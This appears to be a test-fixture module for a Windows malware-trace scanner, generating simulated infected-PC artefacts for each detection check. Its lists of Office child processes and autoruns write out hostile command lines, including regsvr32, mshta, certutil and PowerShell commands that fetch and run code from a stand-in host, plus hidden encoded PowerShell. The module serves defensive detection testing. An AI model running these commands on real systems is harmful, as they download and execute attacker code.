"""Traces of malware put on ordinary PCs: one function a variant, by the check that finds it."""

from __future__ import annotations

from collections.abc import Callable
from typing import Final

from honmono.sweep.scanner._core import Artefacts
from tests.sweep.machines import EICAR, EXPLORER, NOON, RUN, WEEK, WORDS, Builder
from tests.sweep.odd import OFFICE

Infection = Callable[[Builder], None]

SPELLINGS: Final[tuple[Callable[[str], str], ...]] = (
    str,
    str.upper,
    str.lower,
    lambda path: path.replace("\\", "/"),
    lambda path: "\\\\?\\" + path,
    lambda path: "\\??\\" + path,
    lambda path: path.replace("C:\\", "\\Device\\HarddiskVolume3\\"),
    lambda path: path + ". ",
    lambda path: path.replace("\\AppData\\", "\\\\AppData\\.\\"),
    lambda path: path.replace("Users", "Users\\Public\\.."),
)
"""Ways to write one path."""


def _name(words: tuple[str, ...], serial: int) -> str:
    """The name, worked out once more and in another way than the check does."""
    text = ",".join(words)

    def word(at: int) -> str:
        if text[at] == ",":
            at += 1
        elif "," in text[:at]:
            while text[at - 1] != ",":
                at -= 1
        end = at
        while end < len(text) and text[end] != ",":
            end += 1
        return text[at:end]

    size = len(text)
    return word(serial % size) + word((2**32 - 1 - serial // size) % size) + ".exe"


def dictionary(b: Builder) -> None:
    name = _name(WORDS, b.serial)
    b.run(f"{b.x86}\\{name}", name=b.chance.choice((name, name.upper(), name[:-4])))


def _hide(name: str, serial: int) -> str:
    key = serial.to_bytes(4, "little")
    return bytes(ord(c) ^ key[n % 4] for n, c in enumerate(name)).hex()


def _registry(b: Builder, hive: str, key: str) -> None:
    word = b.letters(6, 12)
    b.value(hive, key, f"{b.serial:x}", _hide(word, b.serial), "REG_BINARY")
    b.run(f"{b.user().local}\\{word}\\{word}.exe", name=word + ".EXE")


def registry_of_a_user(b: Builder) -> None:
    _registry(b, b.user().hive, EXPLORER)


def registry_of_another_user(b: Builder) -> None:
    _registry(b, b.other().hive, EXPLORER.upper())


def registry_of_the_machine(b: Builder) -> None:
    _registry(b, "HKLM", "\\" + EXPLORER + "\\")


def registry_of_32_bit(b: Builder) -> None:
    _registry(b, "HKLM", EXPLORER.replace("Software\\", "SOFTWARE\\WOW6432Node\\"))


def _borrowed(b: Builder, root: str) -> None:
    folder, name = b.chance.sample(
        ["certcli", "KBDFR", "mfc42", "perfmon", "winver", "ieframe"], 2
    )
    path = b.file(f"{root}\\{folder}\\{name}.exe", b.chance.randrange(10_000, 800_000))
    b.run(b.chance.choice(SPELLINGS)(path), name=f"{name}.exe")


def borrowed_user(b: Builder) -> None:
    _borrowed(b, b.user().local)


def borrowed_other_user(b: Builder) -> None:
    _borrowed(b, b.other().local)


def borrowed_administrator(b: Builder) -> None:
    _borrowed(b, b.x86)


def borrowed_short_name(b: Builder) -> None:
    user = b.user()
    b.file(f"{user.local}\\setupapi\\msvcp60.exe", 300_000)
    b.run(f"{user.profile}\\AppData\\Local\\SETUPA~1\\MSVCP60.EXE", name="MSVCP60.EXE")


def _library(b: Builder, root: str) -> tuple[str, str, str]:
    name = f"{b.letters(3, 15)}.{b.chance.choice(('nmk', 'qzx', 'Ocv', 'bvw'))}"
    path = b.file(f"{root}\\{b.letters(4, 16).title()}\\{name}", at=NOON - 1e6)
    export = b.chance.choice(("RunDLL", "ShowDialogA", b.letters(4, 15)))
    return name, path, export


def _rundll32_user(b: Builder, local: str, hive: str) -> None:
    name, path, export = _library(b, local)
    value = b.chance.choice((name, name.upper(), b.letters(7, 16)))
    written = b.chance.choice(
        (path, path.replace(local, "%LOCALAPPDATA%"), path.upper())
    )
    b.value(
        hive, RUN, value, f'C:\\Windows\\System32\\rundll32.exe "{written}",{export}'
    )
    blanks = " " * b.chance.randint(1, 3)
    b.run(
        f"{b.x86}\\rundll32.exe",
        line=f'"{b.x86}\\rundll32.exe"{blanks}"{written}",{export}',
    )


def rundll32_user(b: Builder) -> None:
    user = b.user()
    _rundll32_user(b, user.local, user.hive)


def rundll32_other_user(b: Builder) -> None:
    _rundll32_user(b, b.other().local, b.other().hive)


def rundll32_administrator(b: Builder) -> None:
    name, path, export = _library(b, b.x86)
    said = path.replace("SysWOW64", b.chance.choice(("SysWOW64", "System32")))
    line = f'C:\\Windows\\system32\\rundll32.exe "{said}",{export}'
    b.service(name, line)
    b.run(f"{b.x86}\\rundll32.exe", line=line)


def rundll32_short(b: Builder) -> None:
    user = b.user()
    path = b.file(f"{user.local}\\Qwertyuiop\\zxcvbnmasd.nmk")
    short = path.replace("Qwertyuiop\\zxcvbnmasd", "QWERTY~1\\ZXCVBN~1")
    b.value(user.hive, RUN, "zxcvbnmasd.nmk", f"rundll32.exe {path},RunDLL")
    b.run(f"{b.x86}\\rundll32.exe", line=f"rundll32.exe {short},RunDLL")


def _back_dated(b: Builder, root: str, ending: str) -> str:
    folder = f"{root}\\{b.letters(4, 9)}{b.chance.randrange(9)}"
    at = b.folder(folder, NOON - b.chance.uniform(0, 1e7))
    off = b.chance.uniform(-0.29, 0.19)
    return b.file(f"{folder}\\{b.letters(4, 9)}.{ending}", at=at - WEEK - off)


def back_dated_program(b: Builder) -> None:
    b.run(b.chance.choice(SPELLINGS)(_back_dated(b, b.user().local, "exe")))


def back_dated_library(b: Builder) -> None:
    path = _back_dated(b, b.other().local, "dll")
    b.run(f"{b.system32}\\regsvr32.exe", line=f'regsvr32.exe /s "{path}"')


def back_dated_administrator(b: Builder) -> None:
    path = _back_dated(b, b.x86, "dll")
    b.run(f"{b.system32}\\rundll32.exe", line=f"rundll32.exe {path},Run")


def rundll32_of_a_picture(b: Builder) -> None:
    path = f"{b.user().local}\\Temp\\{b.letters(4, 9)}.{b.chance.choice(('jpg', 'dat', 'log', 'txt'))}"
    b.run(
        f"{b.system32}\\rundll32.exe",
        line=f"rundll32.exe {path},{b.chance.choice(('#1', 'Run', 'DllMain'))}",
    )


def rundll32_alone(b: Builder) -> None:
    path = b.file(f"C:\\ProgramData\\{b.letters(5, 9)}\\{b.letters(5, 9)}.dll")
    b.run(f"{b.system32}\\rundll32.exe", line=f'rundll32.exe "{path}",Control_RunDLL')


def rundll32_script(b: Builder) -> None:
    b.run(
        f"{b.system32}\\rundll32.exe",
        line='rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write()',
    )


def _wave_of_2022(b: Builder, root: str) -> str:
    return b.file(f"{root}\\{b.letters(5, 14).title()}\\{b.letters(5, 14)}.dll")


def regsvr32_of_a_user(b: Builder) -> None:
    path = _wave_of_2022(b, b.user().local)
    b.run(
        f"{b.system32}\\regsvr32.exe",
        line=f'C:\\Windows\\system32\\regsvr32.exe /s "{path}"',
    )


def regsvr32_at_logon(b: Builder) -> None:
    """Only in another user's hive: he is not here now, and nothing of it runs."""
    user = b.other()
    path = _wave_of_2022(b, user.local)
    b.value(
        user.hive,
        RUN,
        path.rpartition("\\")[2],
        f'C:\\Windows\\system32\\regsvr32.exe "{path}"',
    )


def regsvr32_as_a_service(b: Builder) -> None:
    path = _wave_of_2022(b, b.system32)
    b.service(b.letters(6, 10), f'regsvr32.exe "{path}"')


def regsvr32_from_the_web(b: Builder) -> None:
    b.run(
        f"{b.system32}\\regsvr32.exe",
        line="regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll",
    )


def regsvr32_of_a_picture(b: Builder) -> None:
    b.run(
        f"{b.system32}\\regsvr32.exe", line=f"regsvr32 -s {b.user().local}\\Temp\\a.gif"
    )


ENCODED: Final = "SQBFAFgA" * 12

BAD_CHILDREN: Final = (
    ("EXCEL.EXE", "regsvr32.exe", "C:\\Windows\\SysWow64\\regsvr32.exe -s ..\\wn1.ocx"),
    ("EXCEL.EXE", "regsvr32.exe", "regsvr32.exe /s USER\\AppData\\Local\\Temp\\rfs.dll"),
    ("WINWORD.EXE", "powershell.exe", f"powershell -w hidden -enc {ENCODED}"),
    ("WINWORD.EXE", "cmd.exe", f"cmd /c powershell -NoP -W Hidden -e {ENCODED}"),
    ("EXCEL.EXE", "mshta.exe", "mshta http://192.0.2.1/a.html"),
    ("EXCEL.EXE", "cmd.exe", "cmd /c mshta http://192.0.2.1/a.html"),
    ("ONENOTE.EXE", "wscript.exe", 'wscript.exe "USER\\AppData\\Local\\Temp\\OneNote\\16.0\\Exported\\{AB}\\NT\\0\\click.wsf"'),
    ("OUTLOOK.EXE", "wscript.exe", "wscript.exe USER\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\AB\\請求書.js"),
    ("WINWORD.EXE", "rundll32.exe", "rundll32 USER\\AppData\\Local\\Temp\\A.tmp.dat,Control_RunDLL"),
    ("EXCEL.EXE", "certutil.exe", "certutil -urlcache -split -f http://192.0.2.1/a a.exe"),
    ("WINWORD.EXE", "powershell.exe", "powershell (New-Object Net.WebClient).DownloadFile('http://192.0.2.1/a','a');Start-Process a"),
)  # fmt: skip


def _child(parent: str, name: str, line: str) -> Infection:
    def infect(b: Builder) -> None:
        above = b.run(OFFICE + parent)
        b.run(
            f"{b.system32}\\{name}",
            parent=above,
            line=line.replace("USER", b.user().profile),
        )

    infect.__name__ = f"{parent}_{name}"
    return infect


BAD_AUTORUNS: Final = (
    f"powershell.exe -WindowStyle Hidden -EncodedCommand {ENCODED}",
    "mshta.exe http://192.0.2.1/x.hta",
    'mshta vbscript:CreateObject("WScript.Shell").Run("a")(window.close)',
    'wscript.exe "USER\\AppData\\Roaming\\update.jse"',
    "wscript //e:jscript USER\\AppData\\Local\\Temp\\a.vbs",
    "rundll32.exe USER\\AppData\\Local\\Temp\\a.jpg,#1",
    "C:\\$Recycle.Bin\\S-1-5-21\\svc.exe",
    'powershell -c "iex (gp HKCU:\\Software\\Abc).x"',
    "regsvr32.exe /s USER\\AppData\\Roaming\\Qwertyu\\zxcvb.dll",
    "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\"",
    "USER\\AppData\\Roaming\\invoice.scr /s",
    "cmd.exe /c start \"\" /min regsvr32.exe /s USER\\AppData\\Local\\Abcdefg\\zxcvb.dll",
    "C:\\Windows\\System32\\regsvr32 USER\\AppData\\Local\\Abcdefg\\zxcvb.dll",
)  # fmt: skip


def _autorun(line: str) -> Infection:
    def infect(b: Builder) -> None:
        user = b.other()
        text = line.replace("USER", user.profile)
        if b.chance.random() < 0.5:
            b.value(
                user.hive, b.chance.choice((RUN, RUN + "Once")), b.letters(5, 9), text
            )
        else:
            b.autorun(b.chance.choice(("task", "startup")), b.letters(5, 9), text)

    infect.__name__ = f"autorun_{line.split()[0].rpartition(chr(92))[2]}"
    return infect


def published_hash(b: Builder) -> None:
    b.file(
        f"{b.user().local}\\Temp\\eicar.com",
        68,
        head="5835",
        sha256=b.chance.choice((EICAR, EICAR.upper())),
    )


def published_name(b: Builder) -> None:
    b.file(f"{b.user().local}\\Abc\\WN1.OCX")


ALL: Final[dict[str, tuple[Infection, ...]]] = {
    "dictionary-name": (dictionary,),
    "registry-name": (
        registry_of_a_user,
        registry_of_another_user,
        registry_of_the_machine,
        registry_of_32_bit,
    ),
    "borrowed-name": (
        borrowed_user,
        borrowed_other_user,
        borrowed_administrator,
        borrowed_short_name,
    ),
    "rundll32-library": (
        rundll32_user,
        rundll32_other_user,
        rundll32_administrator,
        rundll32_short,
    ),
    "back-dating": (back_dated_program, back_dated_library, back_dated_administrator),
    "rundll32-anomaly": (rundll32_of_a_picture, rundll32_alone, rundll32_script),
    "regsvr32-anomaly": (
        regsvr32_of_a_user,
        regsvr32_at_logon,
        regsvr32_as_a_service,
        regsvr32_from_the_web,
        regsvr32_of_a_picture,
    ),
    "office-child": tuple(_child(*one) for one in BAD_CHILDREN),
    "autoruns": tuple(_autorun(line) for line in BAD_AUTORUNS),
    "indicators": (published_hash, published_name),
}
"""By the check that must find it."""

VARIANTS: Final = [(name, one) for name, all_ in ALL.items() for one in all_]


def infected(infection: Infection, seed: int) -> Artefacts:
    """An ordinary PC with odd things on it, and this."""
    builder = Builder(seed)
    infection(builder)
    return builder.artefacts()
